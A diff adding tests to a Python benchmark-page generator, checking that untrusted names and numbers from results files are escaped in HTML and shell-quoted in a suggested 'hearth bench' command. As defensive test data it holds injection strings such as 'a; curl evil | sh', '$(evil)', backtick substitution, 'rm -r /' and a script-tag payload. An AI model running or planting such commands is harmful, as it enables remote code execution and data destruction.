@@ -1,16 +1,20 @@
 """The page's text, as a browser's parser reads it."""
 
 import re
+import shlex
 from dataclasses import replace
 from html.parser import HTMLParser
 
 import pytest
+from hypothesis import given, settings, strategies as st
 
+from hearth.commands.bench.measures import MEASURES
 from hearth.commands.bench.page.bench_page import bench_page
 from hearth.commands.bench.page.causes import Causes
 from hearth.commands.bench.page.markup import tag, with_code
+from hearth.commands.bench.page.method import typable
 from hearth.commands.bench.page.workload_kinds import KINDS, OTHERS, kind_of
-from hearth.commands.bench.results import HEARTH, Results
+from hearth.commands.bench.results import HEARTH, Results, Sample
 from tests.helpers.bench.made_results import ABOUTS, COUNTED, TIMED, made_results
 
 BYTES_MAX = 1_000_000
@@ -187,7 +191,15 @@ def hostile(results: Results, text: str) -> Results:
         for name, facts in results.servers.items()
     }
     results.models = {name: replace(facts, label=text) for name, facts in results.models.items()}
-    results.samples = [replace(each, errors=(text,)) for each in results.samples]
+    results.scale = results.began = results.commit = text
+    results.samples = [replace(each, errors=(text,), began=text) for each in results.samples]
+    # Names of a model, a server and a workload too.
+    last = results.samples[-1]
+    results.samples += [
+        replace(last, workload=text),
+        replace(last, server=text),
+        replace(last, model=text),
+    ]
     return results
 
 
@@ -197,6 +209,58 @@ def test_what_a_server_says_becomes_no_markup() -> None:
     parsed = Parsed(bench_page(made, Causes.parsed(f"## * / memory\n{text}\n"), {"linear": text}))
     assert not {"script", "img"} & set(parsed.tags)
     assert parsed.text.count("<script>alert(1)</script>") > 5
+
+
+@pytest.mark.parametrize("evil", ["a; curl evil | sh", "$(evil)", "`evil`", "--evil", "a\nevil"])
+def test_a_command_of_a_strangers_page_is_one_command(evil: str) -> None:
+    """What a page says to type can be typed: names are words, whatever they hold."""
+    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"), rounds=1)
+    made.scale = evil
+    made.samples = [replace(each, workload=evil, model=evil) for each in made.samples[:1]]
+    made.command = f"hearth bench --model {evil}"
+    parsed = Parsed(bench_page(made))
+    quoted = " ".join(shlex.quote(evil).split())
+    line = f"hearth bench --model {quoted} --servers hearth --workloads {quoted} --scale {quoted}"
+    assert line in parsed.text
+    for words in (["rm", "-r", "/"], ["hearth", "bench", ";", "evil", "$(evil)", "&&", "`x`"]):
+        told = typable(" ".join(words))
+        is_own = words[0] == "hearth"
+        assert shlex.split(told) == words if is_own else "hearth bench" not in told
+    assert typable("hearth bench ; evil") == "hearth bench ';' evil"
+    assert "no command" in typable("hearth bench 'x")
+
+
+def test_a_server_by_url_is_repeated_by_its_url() -> None:
+    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"), rounds=1)
+    made.command = "hearth bench --servers hearth --server mlx_lm=URL --rounds 1"
+    text = Parsed(bench_page(made)).text
+    assert "--servers hearth --server mlx_lm=URL --workloads linear" in text
+
+
+VALUES = st.sampled_from((0.0, 1e15, -1e15, 1e-300, -1e-9, 0.1, 5e14, 7)) | st.floats(-1e15, 1e15)
+
+
+@settings(max_examples=25, deadline=None)
+@given(
+    st.lists(
+        st.tuples(
+            st.sampled_from((HEARTH, "mlx_lm")),
+            st.sampled_from(("linear", "cancel-0s", "streams-4", "evil", "answers-cold")),
+            st.integers(0, 4),
+            st.dictionaries(st.sampled_from(sorted(MEASURES)), VALUES, max_size=6),
+        ),
+        max_size=25,
+    )
+)
+def test_any_numbers_of_a_strangers_file_make_a_page(
+    rows: list[tuple[str, str, int, dict[str, float]]],
+) -> None:
+    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"), rounds=1)
+    made.samples = []
+    made.add(Sample("qwen3", *row) for row in rows)
+    page = bench_page(made)
+    assert not re.search(r'="[^"]*\b(nan|inf)\b', page)
+    assert Parsed(page).text
 
 
 @pytest.mark.parametrize("servers", [(HEARTH,), ("mlx_lm",), (HEARTH, "mlx_lm")])
